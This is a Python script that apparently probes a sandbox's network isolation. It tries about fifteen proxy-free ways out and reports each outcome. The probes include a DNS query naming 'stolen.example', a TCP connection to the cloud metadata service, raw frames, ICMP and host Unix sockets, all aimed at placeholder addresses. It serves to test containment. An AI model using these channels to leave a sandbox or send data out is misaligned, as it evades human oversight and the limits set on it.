"""Ways out of a box that use no proxy: ``python hostile.py MARKS`` prints the outcome of each, and needs no packages.

``MARKS`` is JSON: ``registry`` (address and port), ``port`` of a server, ``unix`` and ``abstract`` names of sockets.
"""

from __future__ import annotations

import json
import socket
import sys
from collections.abc import Callable
from typing import Any

#: A question for a name that carries data: ``stolen.example``.
QUESTION = b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x07example\x00\x00\x01\x00\x01"
#: An echo request.
PING = b"\x08\x00\xe5\xca\x12\x34\x00\x01"
V4, V6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM


def send(family: int, kind: int, address: Any, data: bytes = QUESTION, protocol: int = 0) -> None:
    with socket.socket(family, kind, protocol) as made:
        made.settimeout(1)
        made.connect(address)
        made.send(data)


def frame() -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as made:
        made.bind(("lo", 3))
        made.send(b"\xff" * 12 + b"\x88\xb5" + QUESTION)


def ways(marks: dict[str, Any]) -> dict[str, Callable[[], object]]:
    """Return the ways out by name. The addresses are those of documentation, and of hosts of the cloud."""
    port = marks["port"]
    return {
        "TCP to the registry": lambda: send(V4, TCP, tuple(marks["registry"])),
        "TCP to the host's loopback": lambda: send(V4, TCP, ("127.0.0.1", port)),
        "TCP to the host's loopback, IPv6": lambda: send(V6, TCP, ("::1", port)),
        "TCP to an IPv6 address": lambda: send(V6, TCP, ("2001:db8::2", port)),
        "TCP to the metadata service": lambda: send(V4, TCP, ("169.254.169.254", port)),
        "DNS over UDP": lambda: send(V4, UDP, ("192.0.2.53", 53)),
        "DNS over TCP": lambda: send(V4, TCP, ("192.0.2.53", 53)),
        "DNS over UDP, IPv6": lambda: send(V6, UDP, ("2001:db8::53", 53)),
        "DNS of the host": lambda: send(V4, UDP, ("127.0.0.53", 53)),
        "name service": lambda: socket.getaddrinfo("stolen.example", 443),
        "ICMP": lambda: send(V4, socket.SOCK_RAW, ("192.0.2.1", 0), PING, socket.IPPROTO_ICMP),
        "ICMP without a raw socket": lambda: send(V4, UDP, ("192.0.2.2", 0), PING, socket.IPPROTO_ICMP),
        "raw frame": frame,
        "Unix socket of the host": lambda: send(socket.AF_UNIX, TCP, marks["unix"]),
        "abstract Unix socket of the host": lambda: send(socket.AF_UNIX, TCP, "\0" + marks["abstract"]),
    }


def outcomes(marks: dict[str, Any]) -> dict[str, str]:
    """Try each way. A datagram that was sent need not arrive."""
    found = {}
    for name, leave in ways(marks).items():
        try:
            leave()
            found[name] = "sent"
        except OSError as error:
            found[name] = type(error).__name__
    return found


if __name__ == "__main__":
    sys.stdout.write(json.dumps(outcomes(json.loads(sys.argv[1]))))
